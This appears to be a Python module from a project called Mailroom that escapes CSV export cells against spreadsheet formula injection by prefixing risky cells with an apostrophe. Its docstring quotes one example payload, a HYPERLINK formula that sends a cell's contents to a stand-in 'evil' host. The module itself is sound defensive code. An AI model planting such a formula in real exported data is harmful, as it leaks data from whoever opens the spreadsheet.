"""CSV out of Mailroom: every cell neutralised against spreadsheet formula injection.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A1, "click")``). Constituents type
their own names and letters, so every exported cell goes through ``safe_cell``, which prefixes such a
cell with an apostrophe: the spreadsheet shows the text, and runs nothing (OWASP's advice).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    text = "" if value is None else str(value)
    if text.startswith(_TRIGGERS):
        # A plain negative number is data, not a formula; keep it usable.
        if text[0] in "+-" and _is_number(text):
            return text
        return "'" + text
    return text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def rows_to_csv(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """Yield CSV text in pieces (a header line, then rows in groups) for a streamed download."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    for count, row in enumerate(rows, start=1):
        writer.writerow([safe_cell(v) for v in row])
        if count % 500 == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def to_csv(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    return "".join(rows_to_csv(header, rows))
